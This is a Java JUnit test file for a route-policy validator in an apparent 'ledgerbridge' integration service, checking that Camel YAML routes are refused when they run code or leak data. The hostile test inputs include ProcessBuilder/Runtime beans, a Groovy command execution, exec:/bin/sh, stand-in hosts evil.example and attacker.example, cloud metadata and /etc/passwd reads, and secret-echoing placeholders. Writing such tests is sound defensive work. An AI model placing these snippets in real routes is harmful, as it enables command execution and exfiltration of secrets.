package io.ledgerbridge.routes;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.Test;

/**
 * What a route file may use, read from the YAML as written: the repository's own routes pass, and each way a file
 * could run code, reach a place the service does not talk to, or echo a secret is refused with its file and line.
 */
class RoutePolicyTest {

    static final String MAPPINGS = "file:" + Path.of("mappings").toAbsolutePath();
    static final Map<String, String> SETTINGS = Map.ofEntries(
            Map.entry("ledgerbridge.mappings.location", MAPPINGS),
            Map.entry("ledgerbridge.erp.outbox.dir", "target/test-outbox"),
            Map.entry("ledgerbridge.erp.xero.base-url", "https://api.xero.com/projects.xro/2.0"),
            Map.entry("ledgerbridge.erp.xero.accounting-url", "https://api.xero.com/api.xro/2.0"),
            Map.entry("ledgerbridge.erp.business-central.base-url",
                    "https://api.businesscentral.dynamics.com/v2.0/production/api/v2.0"),
            Map.entry("ledgerbridge.erp.business-central.company-id", "7d4e2f10-5a6b-4c8d-9e0f-1a2b3c4d5e6f"),
            Map.entry("ledgerbridge.erp.business-central.expense-journal-id", "0f1e2d3c-4b5a-4968-8776-a5b4c3d2e1f0"),
            Map.entry("ledgerbridge.erp.business-central.post-invoices", "false"),
            Map.entry("ledgerbridge.sources.harvest.base-url", "https://api.harvestapp.com/v2"),
            Map.entry("ledgerbridge.crm.base-url", "https://crm.example/services/data/v61.0"),
            Map.entry("ledgerbridge.crm.system", "salesforce"),
            Map.entry("ledgerbridge.psa.system", "harvest"),
            Map.entry("ledgerbridge.events.projects", "seda:project-events"),
            Map.entry("ledgerbridge.events.invoices", "kafka:ledgerbridge.invoice-events?requestRequiredAcks=all&groupId=g"),
            Map.entry("ledgerbridge.events.facts", "kafka:ledgerbridge.facts?requestRequiredAcks=all"),
            Map.entry("ledgerbridge.webhooks.secret", "s3cr3t-value"));
    static final Set<String> BEANS = Set.of("deals", "erp", "syncRecords", "webhookSignatures", "sourceWebhook",
            "inbox", "kafkaBatches", "redeliveries", "xeroTokens", "xeroUsers", "xeroExpenses", "businessCentral", "harvestLists",
            "businessCentralTokens", "callBudgets", "erpResponses", "timeEntries", "billables",
            "reconciliations", "people", "staffing", "expenses", "billingRuns", "billingBatches", "kafkaCommits", "invoiceStatus",
            "harvestPoll", "sources", "journals", "xeroCreditNotes", "deadLetterEvents", "deadLetters", "errorClasses", "problems",
            "milestoneCompletions", "creditNotes", "periodCloses", "facts");

    final RoutePolicy policy = new RoutePolicy(key -> Optional.ofNullable(SETTINGS.get(key)), BEANS::contains,
            List.of("ledgerbridge.erp.xero.base-url", "ledgerbridge.erp.xero.accounting-url",
                    "ledgerbridge.erp.business-central.base-url", "ledgerbridge.sources.harvest.base-url",
                    "ledgerbridge.crm.base-url"),
            MAPPINGS, "target/test-outbox");

    @Test
    void theRepositorysRoutesUseOnlyWhatIsAllowed() {
        Map<String, String> files = RouteValidator.filesIn(Path.of("routes"));
        assertThat(files).hasSizeGreaterThan(10);
        assertThat(policy.check(files)).isEmpty();
    }

    @Test
    void aBeanOfAnyTypeIsRefusedBeforeAnythingIsBuilt() {
        assertRefused("""
                - beans:
                    - name: shell
                      type: java.lang.ProcessBuilder
                      constructors:
                        0: touch
                      initMethod: start
                """, 1, "declares beans");
        assertRefused(route("- bean:\n            beanType: java.lang.Runtime\n            method: getRuntime"),
                8, "constructs a bean of a type");
        assertRefused(route("- process:\n            ref: \"#class:java.lang.ProcessBuilder\""), 8, "constructs an object");
        assertRefused(route("- to:\n            uri: \"direct:x?foo=#type:java.lang.Runtime\""), 8, "constructs an object");
        assertRefused(route("- bean:\n            ref: quarkusSomething\n            method: run"), 8, "not one of the service's beans");
    }

    @Test
    void scriptsAndComponentsOutsideTheAllowListAreRefused() {
        assertRefused(route("- setBody:\n            groovy: \"'id'.execute().text\""), 8, "the language 'groovy'");
        assertRefused(route("- setBody:\n            expression:\n              language:\n                language: js\n                expression: x"),
                9, "the language 'language'");
        assertRefused(route("- to:\n            uri: \"exec:/bin/sh?args=-c id\""), 8, "the component 'exec'");
        assertRefused(route("- to: \"controlbus:route?action=stop&routeId=approved-time-to-erp\""), 7,
                "the component 'controlbus'");
        assertRefused(route("- recipientList:\n            simple: \"${header.where}\""), 7, "computes its destinations");
        assertRefused(route("- setBody:\n            simple: \"${body.getClass().forName('java.lang.Runtime')}\""), 8,
                "is not allowed");
        assertRefused(route("- setBody:\n            simple: \"${bean:deals?method=x}\""), 8, "is not allowed");
        assertRefused(route("- setBody:\n            simple: \"${properties:ledgerbridge.webhooks.secret}\""), 8,
                "is not allowed");
        assertRefused(route("- to:\n            uri: \"kafka:t?brokers=evil.example:9092\""), 8, "'brokers'");
        assertRefused(route("- to:\n            uri: kafka:t\n            parameters:\n              saslJaasConfig: x"), 8,
                "'saslJaasConfig'");
        assertRefused(route("- to: \"log:x?showAll=true\""), 7, "'showAll'");
    }

    @Test
    void endpointsLeadOnlyToTheVendorsTheOutboxAndTheMappings() {
        assertRefused(route("- to: \"https://attacker.example/x\""), 7, "configured vendor base URL");
        assertRefused(route("- toD: \"{{ledgerbridge.erp.xero.base-url}}.attacker.example/x\""), 7,
                "configured vendor base URL");
        assertRefused("- routeTemplate:\n    id: t\n    parameters:\n      - name: target\n    route:\n      from:\n"
                + "        uri: direct:t\n        steps:\n          - to: \"{{target}}\"\n", 9, "must be written out");
        assertRefused(route("- to: \"jsonata:http://169.254.169.254/latest/meta-data\""), 7, "outside the mappings");
        assertRefused(route("- to: \"json-validator:file:/etc/passwd\""), 7, "outside the mappings");
        assertRefused(route("- to: \"jsonata:{{ledgerbridge.mappings.location}}/../pom.xml\""), 7, "steps out");
        assertRefused(route("- to: \"file:/tmp/elsewhere\""), 7, "outside the ERP outbox");
        assertRefused(route("- to: \"file:{{ledgerbridge.erp.outbox.dir}}?jailStartingDirectory=false\""), 7,
                "'jailStartingDirectory'");
        assertThat(policy.check(Map.of("ok.camel.yaml", route("""
                - toD:
                            uri: "{{ledgerbridge.erp.xero.base-url}}/Projects/${header.id}"
                            parameters:
                              httpMethod: PUT
                        - to: "jsonata:{{ledgerbridge.mappings.location}}/time-entry/x.jsonata?inputType=JsonString"
                        - to: "file:{{ledgerbridge.erp.outbox.dir}}?fileExist=Override"
                """.strip())))).isEmpty();
    }

    @Test
    void settingsOtherThanTheServicesOwnAndSecretsOutsideACredentialHeaderAreRefused() {
        assertRefused(route("- log: \"{{env:HOME}}\""), 7, "{{env:HOME}}");
        assertRefused(route("- log: \"{{quarkus.security.users.embedded.users.approver}}\""), 7, "not one of the service's settings");
        assertRefused("- route:\n    id: \"x-{{ledgerbridge.webhooks.secret}}\"\n    from:\n      uri: direct:a\n"
                + "      steps:\n        - log: a\n", 2, "the secret setting {{ledgerbridge.webhooks.secret}}");
        assertRefused(route("- setHeader:\n            name: X-Leak\n            simple: \"{{ledgerbridge.crm.token:}}\""), 9,
                "may only be the value of a credential header");
        assertThat(policy.check(Map.of("ok.camel.yaml",
                route("- setHeader:\n            name: Authorization\n            simple: \"Bearer {{ledgerbridge.crm.token:}}\""))))
                .isEmpty();
    }

    @Test
    void aFileThatDoesNotReadAsOneYamlDocumentIsRefused() {
        assertRefused("- route:\n    id: a\n---\n- beans: []\n", 3, "not one YAML document");
    }

    private void assertRefused(String yaml, int line, String problem) {
        List<RoutePolicy.Violation> refused = policy.check(Map.of("hostile.camel.yaml", yaml));
        assertThat(refused).as(yaml).anySatisfy(violation -> {
            assertThat(violation.file()).isEqualTo("hostile.camel.yaml");
            assertThat(violation.line()).isEqualTo(line);
            assertThat(violation.problem()).contains(problem);
        });
        assertThat(refused.toString()).doesNotContain("s3cr3t-value").doesNotContain("api.xero.com");
    }

    private static String route(String step) {
        return """
                - route:
                    id: hostile
                    from:
                      uri: direct:hostile
                      steps:
                        - log: start
                        %s
                """.formatted(step);
    }
}
